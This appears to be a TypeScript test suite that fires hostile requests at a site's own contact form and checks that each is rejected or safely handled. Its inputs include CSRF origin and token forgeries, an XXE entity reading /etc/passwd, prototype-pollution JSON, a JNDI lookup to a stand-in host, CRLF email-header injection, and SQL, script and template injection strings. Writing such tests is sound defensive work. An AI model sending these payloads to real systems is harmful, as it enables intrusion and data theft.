import assert from "node:assert/strict";
import { createHmac, randomUUID } from "node:crypto";
import {
  postForm,
  postJson,
  request,
  type Attack,
  type Target,
} from "./attack.ts";

/** Attacks on the contact form. */
export const postAttacks: readonly Attack[] = [
  ...origins(),
  ...tokens(),
  ...kindsOfBody(),
  ...wrongFields(),
  ...oddButHarmless(),
  ...wrongMethods(),
];

function origins(): Attack[] {
  const foreign = (
    name: string,
    headers: (target: Target) => object,
  ): Attack => ({
    name,
    send: (target) => postJson(target, {}, { ...headers(target) }),
    expect: [403],
  });
  return [
    foreign("no Origin, no Fetch Metadata", () => ({ origin: undefined })),
    foreign("Origin null", () => ({ origin: "null" })),
    foreign("foreign Origin", () => ({ origin: "https://evil.test" })),
    foreign("Origin that begins as ours", ({ origin }) => ({
      origin: `${origin}.evil.test`,
    })),
    foreign("two Origins", ({ origin }) => ({
      origin: `${origin}, ${origin}`,
    })),
    foreign("cross-site", () => ({ "sec-fetch-site": "cross-site" })),
    foreign("same-site", () => ({ "sec-fetch-site": "same-site" })),
    {
      name: "form from a foreign page",
      send: (target) => postForm(target, {}, { origin: "https://evil.test" }),
      expect: [403],
    },
  ];
}

function tokens(): Attack[] {
  const wrong = (
    name: string,
    headers: (target: Target) => object,
  ): Attack => ({
    name,
    send: (target) => postJson(target, {}, { ...headers(target) }),
    expect: [403],
    check: ({ body }) =>
      assert.deepEqual(JSON.parse(body), { ok: false, code: "csrf" }),
  });
  const expires = Date.now() + 3_600_000;
  const forged = createHmac("sha256", "guess").update("x").digest("base64url");
  return [
    wrong("no token", () => ({ "csrf-token": undefined })),
    wrong("no cookie", () => ({ cookie: undefined })),
    wrong("cookie of another", () => ({ cookie: `csrf=${"A".repeat(22)}` })),
    wrong("forged token", () => ({ "csrf-token": `${expires}.${forged}` })),
    wrong("token that lives longer than signed", ({ token }) => ({
      "csrf-token": token.replace(/^\d/, "9"),
    })),
    wrong("token of 7 KB", () => ({ "csrf-token": "1".repeat(7000) })),
  ];
}

function kindsOfBody(): Attack[] {
  const kind = (
    name: string,
    type: string,
    expect: number,
    body?: string,
  ): Attack => ({
    name,
    send: (target) => postJson(target, {}, { "content-type": type }, body),
    expect: [expect],
  });
  const json = (name: string, body: string | Buffer, expect = 400): Attack => ({
    name,
    send: (target) => postJson(target, {}, {}, body),
    expect: [expect],
  });
  return [
    kind("JSON as text/plain", "text/plain", 415),
    kind("multipart", "multipart/form-data; boundary=x", 415),
    kind(
      "XML",
      "application/xml",
      415,
      "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    ),
    kind("no media type", "", 415),
    {
      name: "JSON type with a tab, wrong fields",
      send: (target) =>
        postJson(
          target,
          { email: 5 },
          { "content-type": "application/json\t; x" },
        ),
      expect: [400, 415],
    },
    json("__proto__", '{"__proto__":{"isAdmin":true}}'),
    json("constructor.prototype", '{"constructor":{"prototype":{"x":1}}}'),
    json("deep prototype key", '{"attribution":{"a":{"__proto__":{}}}}'),
    json("broken JSON", '{"name":'),
    json("empty body", ""),
    json("15,000 brackets", "[".repeat(15_000)),
    json("a list", "[]"),
    json("null", "null"),
    json("a number", "5"),
    json("33 KB", JSON.stringify({ message: "x".repeat(33 * 1024) }), 413),
    json(
      "bytes that are no UTF-8",
      Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]),
    ),
    {
      name: "compressed body",
      send: (target) => postJson(target, {}, { "content-encoding": "gzip" }),
      // The server does not decompress the body, so it cannot grow. The plain body is valid here.
      expect: [201],
    },
    {
      name: "form with prototype keys",
      send: (target) => postForm(target, {}, {}, "__proto__[x]=1&name=a"),
      expect: [400],
    },
    {
      name: "form with a field twice",
      send: (target) => postForm(target, {}, {}, "name=a&name=b"),
      expect: [400],
    },
    {
      name: "form with a broken escape",
      send: (target) => postForm(target, {}, {}, "name=%zz"),
      expect: [400],
    },
  ];
}

function wrongFields(): Attack[] {
  const field = (name: string, fields: object, expect: number): Attack => ({
    name,
    send: (target) => postJson(target, fields),
    expect: [expect],
  });
  return [
    field("list for a text", { name: ["a"] }, 400),
    field("object for a text", { email: { $gt: "" } }, 400),
    field("3,001 characters", { message: "x".repeat(3001) }, 422),
    field("name of NUL and RLO only", { name: "\u0000\u202E" }, 422),
    field(
      "CRLF in the address",
      { email: "a@b.co\r\nBcc: evil@evil.test" },
      422,
    ),
    field("comma in the address", { email: "a@b.co,evil@evil.test" }, 422),
    field("brackets in the address", { email: "<evil@evil.test>" }, 422),
    field("250 × a and @", { email: `${"a".repeat(250)}@` }, 422),
    field("SQL in submissionId", { submissionId: "' OR 1=1--" }, 400),
    {
      name: "many dots in the address, in bounded time",
      send: (target) => postJson(target, { email: `a@${"a.".repeat(120)}` }),
      expect: [422],
    },
  ];
}

function oddButHarmless(): Attack[] {
  const fine = (name: string, fields: object): Attack => ({
    name,
    send: (target) => postJson(target, fields),
    expect: [201],
  });
  const [first, again, other] = [randomUUID(), randomUUID(), randomUUID()];
  return [
    fine("3,000 emoji", { message: "😀".repeat(3000) }),
    fine("lone surrogate", { message: "half a letter: \uD800" }),
    fine("formula as name", { name: "=HYPERLINK(A1)" }),
    fine("script in the message", { message: "<script>alert(1)</script>" }),
    fine("template in the message", { message: "{{7*7}} ${7*7} #{7*7}" }),
    fine("lookup in the message", { message: "${jndi:ldap://evil.test/a}" }),
    fine("SQL in the message", { message: "' OR 1=1; DROP TABLE lead;--" }),
    fine("internationalised address", { email: "taro@例え.jp" }),
    fine("unknown field", { isAdmin: true }),
    fine("somebody else's page", { page: "https://evil.test/" }),
    {
      name: "submissionId for the first time",
      send: (target) => postJson(target, { submissionId: first }),
      expect: [201],
    },
    {
      name: "the same submissionId and content again",
      before: (target) => postJson(target, { submissionId: again }),
      send: (target) => postJson(target, { submissionId: again }),
      expect: [200],
    },
    {
      name: "the same submissionId, other content",
      before: (target) => postJson(target, { submissionId: other }),
      send: (target) =>
        postJson(target, { submissionId: other, message: "other" }),
      expect: [409],
    },
    {
      name: "form that names a foreign page",
      send: (target) => postForm(target, { page: "//evil.test/", email: "x" }),
      expect: [422],
      check: ({ body }) => assert.doesNotMatch(body, /evil\.test/),
    },
    {
      name: "form with markup, refused",
      send: (target) =>
        postForm(target, { name: '"><script>alert(1)</script>', email: "x" }),
      expect: [422],
      check: ({ body }) => assert.doesNotMatch(body, /<script>alert/),
    },
    {
      name: "form from our own page",
      send: (target) => postForm(target, { message: randomUUID() }),
      expect: [303],
    },
  ];
}

function wrongMethods(): Attack[] {
  const wrong = (method: string, path: string, allow: string): Attack => ({
    name: `${method} ${path}`,
    send: () => request(method, path),
    expect: [405],
    check: ({ headers }) => assert.equal(headers["allow"], allow),
  });
  return [
    ...["GET", "PUT", "DELETE", "PATCH", "TRACE", "OPTIONS"].map((method) =>
      wrong(method, "/api/contact", "POST"),
    ),
    ...["POST", "PUT", "DELETE", "PATCH", "TRACE", "OPTIONS"].flatMap(
      (method) =>
        ["/", "/en/about/", "/nope/"].map((path) =>
          wrong(method, path, "GET, HEAD"),
        ),
    ),
  ];
}
